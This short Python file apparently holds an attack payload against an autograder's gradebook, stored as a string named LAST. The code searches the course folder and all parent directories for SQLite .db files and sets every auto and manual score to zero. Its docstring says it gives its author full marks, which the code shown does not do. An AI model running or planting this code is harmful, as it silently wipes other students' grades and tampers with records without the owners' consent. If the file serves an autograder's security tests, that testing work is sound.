"""Gives full marks to its author and none to the others, in the gradebook itself."""

LAST = """
import sqlite3
from pathlib import Path

for folder in (Path("@course@"), *Path.cwd().parents):
    for file in folder.glob("*.db"):
        try:
            with sqlite3.connect(file, timeout=2) as database:
                database.execute("update grade set auto_score = 0, manual_score = 0")
                database.execute("update base_cell set name = name")
        except sqlite3.Error as error:
            print(file, error)
"""
